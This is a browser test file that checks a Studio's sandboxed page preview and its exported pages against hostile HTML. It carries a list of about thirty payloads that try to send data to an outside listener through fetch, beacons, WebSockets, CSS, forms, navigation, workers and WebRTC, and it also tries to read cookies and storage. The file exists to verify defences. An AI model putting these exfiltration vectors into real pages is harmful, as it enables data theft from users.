import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { hostablePage, previewFrame, previewPage } from '../../src/engine/pages/pages.ts'
import { launchChromium } from '../browser/chromium.ts'

/**
 * Hostile pages in the preview as it is served: its policy, its sandbox, its frame. A real listener notes whatever
 * reaches it; the page around notes whatever reaches it.
 */
let browser: Browser
let page: Page
let outside: Server
let site: Server
const reached: string[] = []
let hostile = ''

beforeAll(async () => {
  browser = await launchChromium()
  page = await browser.newPage()
  outside = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*').end('reached')
  })
  outside.on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  site = createServer((request, response) => {
    if (request.url?.startsWith('/preview/pages/') === true) {
      response
        .setHeader('content-security-policy', previewFrame.policy)
        .setHeader('content-type', 'text/html')
      response.setHeader('set-cookie', 'session=secret; Path=/; SameSite=Lax').end(previewFrame.html)
    } else if (request.url === '/studio') {
      response.setHeader('content-security-policy', "frame-src 'self'; base-uri 'none'; form-action 'self'")
      response.setHeader('content-type', 'text/html').end(pageAround())
    } else if (request.url === '/hosted') {
      const files = { css: '', script: "document.title = 'ours'" }
      response.setHeader('content-type', 'text/html').end(hostablePage(hostile, files))
    } else if (request.url === '/unguarded') {
      response.setHeader('content-type', 'text/html').end(hostile)
    } else if (request.url === '/favicon.ico') {
      // The browser's own question for the window around; a page in the frame has no icon that is asked for.
      response.writeHead(204).end()
    } else {
      reached.push(`own site ${request.url}`)
      response.end('own')
    }
  })
  await Promise.all([listen(outside), listen(site)])
}, 60_000)

afterAll(async () => {
  await browser.close()
  outside.close()
  site.close()
})

beforeEach(() => {
  reached.length = 0
})

function listen(server: Server): Promise<void> {
  return new Promise(resolve => server.listen(0, '127.0.0.1', () => resolve()))
}

/** Shows the page as the Studio does: the frame asks at an address without any right, and is given the page. */
function pageAround(): string {
  const { html, metaPolicy: policy } = previewPage(hostile, { css: '', script: '' })
  const content = JSON.stringify({ html, policy }).replaceAll('<', '\\u003c')
  return `<!doctype html><title>Studio</title><iframe sandbox="allow-scripts allow-forms"></iframe><script>
const frame = document.querySelector('iframe')
addEventListener('message', ({ source, data, ports: [port] }) => {
  if (source !== frame.contentWindow || data?.soulgate !== 'preview') return
  port.postMessage(${content})
  document.title = 'Given'
})
frame.src = '/preview/pages/page.html'
</script>`
}

function addressOf(server: Server): string {
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

const attempts: readonly (readonly [string, (far: string) => string])[] = [
  ['fetch', far => script(`fetch('${far}/fetch', { mode: 'no-cors' }).catch(() => {})`)],
  ['XMLHttpRequest', far => script(`const r = new XMLHttpRequest(); r.open('GET', '${far}/xhr'); r.send()`)],
  ['WebSocket', far => script(`new WebSocket('${far.replace('http', 'ws')}/socket')`)],
  ['EventSource', far => script(`new EventSource('${far}/events')`)],
  ['sendBeacon', far => script(`navigator.sendBeacon('${far}/beacon', 'x')`)],
  ['an image', far => `<img alt="" src="${far}/image.png"><svg><image href="${far}/svg.png"/></svg>`],
  ['an image from a script', far => script(`new Image().src = '${far}/new-image'`)],
  [
    'a font',
    far => `<style>@font-face{font-family:x;src:url(${far}/font.woff2)}p{font-family:x}</style><p>Text</p>`,
  ],
  ['a CSS import', far => `<style>@import '${far}/import.css';</style>`],
  [
    'a CSS background',
    far =>
      `<p style="background:url(${far}/attribute.png)">x</p><style>p{border-image:url(${far}/border.png)}</style>`,
  ],
  ['a style sheet', far => `<link rel="stylesheet" href="${far}/sheet.css">`],
  [
    'prefetch and preconnect',
    far =>
      ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender', 'icon', 'manifest']
        .map(kind => `<link rel="${kind}" as="image" href="${far}/${kind}">`)
        .join(''),
  ],
  [
    'speculation rules',
    far => `<script type="speculationrules">{"prefetch":[{"urls":["${far}/speculated"]}]}</script>`,
  ],
  [
    'a script from elsewhere',
    far =>
      `<script src="${far}/script.js"></script><script>import('${far}/module.js').catch(() => {})</script>`,
  ],
  [
    'a form that posts',
    far =>
      `<form id="f" action="${far}/form" method="post"><input name="a" value="b"></form>${script("document.getElementById('f').submit()")}`,
  ],
  [
    'a form with a target',
    far =>
      `<form id="f" action="${far}/form" target="_blank"></form>${script("document.getElementById('f').submit()")}`,
  ],
  ['window.open', far => script(`window.open('${far}/open')`)],
  [
    'a clicked link to a new window',
    far =>
      `<a id="a" target="_blank" href="${far}/link">x</a>${script("document.getElementById('a').click()")}`,
  ],
  ['top navigation', far => script(`try { top.location.href = '${far}/top' } catch {}`)],
  ['its own navigation', far => script(`location.href = '${far}/self?' + document.title`)],
  ['a data address as its own', far => script(`location.href = 'data:text/html,<img src=${far}/data>'`)],
  ['meta refresh', far => `<meta http-equiv="refresh" content="0;url=${far}/refresh">`],
  [
    'a nested frame',
    far => `<iframe src="${far}/frame"></iframe><iframe srcdoc="<img src='${far}/srcdoc'>"></iframe>`,
  ],
  [
    'object, embed, media',
    far =>
      `<object data="${far}/object"></object><embed src="${far}/embed"><video autoplay src="${far}/video"></video><audio src="${far}/audio" preload="auto"></audio>`,
  ],
  ['a service worker', () => script("navigator.serviceWorker?.register('/worker.js').catch(() => {})")],
  [
    'a worker',
    far => script(`try { new Worker(URL.createObjectURL(new Blob(["fetch('${far}/worker')"]))) } catch {}`),
  ],
  [
    'a ping',
    far => `<a id="a" href="#x" ping="${far}/ping">x</a>${script("document.getElementById('a').click()")}`,
  ],
  [
    'WebRTC',
    far =>
      script(
        `try { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${far.slice(7)}' }] }); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } catch {}`,
      ),
  ],
  [
    'the own site with its cookies',
    () =>
      script(
        "fetch('/api/settings', { credentials: 'include' }).catch(() => {}); new Image().src = '/own.png'",
      ),
  ],
]

function script(code: string): string {
  return `<script>try { ${code} } catch {}; document.title = 'ran'</script>`
}

/** Shows the page as the Studio does, and gives what it did to the page around it. */
async function show(body: string): Promise<{ readonly frameUrls: readonly string[] }> {
  hostile = `<!doctype html><html lang="en"><head><title>Page</title></head><body><p>Hello</p>${body}</body></html>`
  await page.goto(`${addressOf(site)}/studio`)
  await page.waitForFunction("document.title === 'Given'")
  const frame = page.frames()[1]
  // What a page tries once it stands has been tried when two further messages went through its event loop.
  await frame?.evaluate('new Promise(done => setTimeout(done, 250))').catch(() => {})
  return { frameUrls: page.frames().map(each => each.url()) }
}

describe('a hostile page in the preview', () => {
  it('runs its own scripts, so that what follows is tried at all', async () => {
    await show(script('window.sign = 1'))
    expect(await page.frames()[1]?.evaluate('document.title')).toBe('ran')
  })

  it('reaches the listener when nothing guards it, so that the listener is known to listen', async () => {
    const far = addressOf(outside)
    const tried = attempts.filter(([name]) => /^(fetch|an image|sendBeacon|a style sheet)$/.test(name))
    hostile = `<!doctype html><body>${tried.map(([, write]) => write(far)).join('')}</body>`
    const urls = ['/fetch', '/image.png', '/beacon', '/sheet.css']
    const arrived = Promise.all(urls.map(url => page.waitForRequest(`${far}${url}`)))
    await page.goto(`${addressOf(site)}/unguarded`)
    await arrived
    await vi.waitFor(
      () => expect(reached.map(line => line.split(' ')[1])).toEqual(expect.arrayContaining(urls)),
      5_000,
    )
  })

  it.each(attempts)('reaches nothing by %s', async (_name, write) => {
    await show(write(addressOf(outside)))
    expect(reached).toEqual([])
    expect(page.url()).toBe(`${addressOf(site)}/studio`)
    expect(page.context().pages()).toHaveLength(1)
  })

  it('reads neither cookies nor storage nor the page around it', async () => {
    await show('')
    const read = await page.frames()[1]?.evaluate(`(() => {
      const attempt = read => { try { return String(read()) } catch (cause) { return 'refused: ' + cause.name } }
      return {
        origin: String(self.origin),
        cookie: attempt(() => document.cookie),
        storage: attempt(() => localStorage.length),
        session: attempt(() => sessionStorage.length),
        parent: attempt(() => parent.document.body.innerHTML),
        top: attempt(() => top.location.href),
        frame: attempt(() => frameElement === null ? 'none' : 'seen'),
      }
    })()`)
    expect(read).toEqual({
      origin: 'null',
      cookie: 'refused: SecurityError',
      storage: 'refused: SecurityError',
      session: 'refused: SecurityError',
      parent: 'refused: SecurityError',
      top: 'refused: SecurityError',
      frame: 'none',
    })
  })

  it('shows no dialog, and an attribute that is code does not run', async () => {
    const dialogs: string[] = []
    page.on('dialog', dialog => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await show(
      `<img alt="" src="x" onerror="document.title='attribute'"><a id="a" href="javascript:document.title='address'">x</a>${script("document.getElementById('a').click(); alert('hello'); confirm('hello')")}`,
    )
    expect(dialogs).toEqual([])
    expect(await page.frames()[1]?.evaluate('document.title')).toBe('ran')
  })
})

describe('a hostile page that was exported and is hosted without a header', () => {
  /** What a validator cannot see stands in a template, which the script of a page may bring in. */
  const hide = (body: string) => `${body}<template>${body}</template><script src="../app.js" defer></script>`

  it('runs our script and no other', async () => {
    hostile = hide(script('window.theirs = 1'))
    await page.goto(`${addressOf(site)}/hosted`)
    expect(await page.evaluate('[document.title, window.theirs]')).toEqual(['ours', undefined])
  })

  it.each(attempts)('reaches nothing by %s', async (_name, write) => {
    hostile = `<!doctype html><html lang="en"><head><title>Page</title></head><body>${hide(write(addressOf(outside)))}</body></html>`
    await page.goto(`${addressOf(site)}/hosted`)
    const bringIn =
      'for (const each of document.querySelectorAll("template")) document.body.append(each.content)'
    await page.evaluate(`${bringIn}; new Promise(done => setTimeout(done, 250))`)
    expect(reached).toEqual([])
    expect(page.url()).toBe(`${addressOf(site)}/hosted`)
  })
})
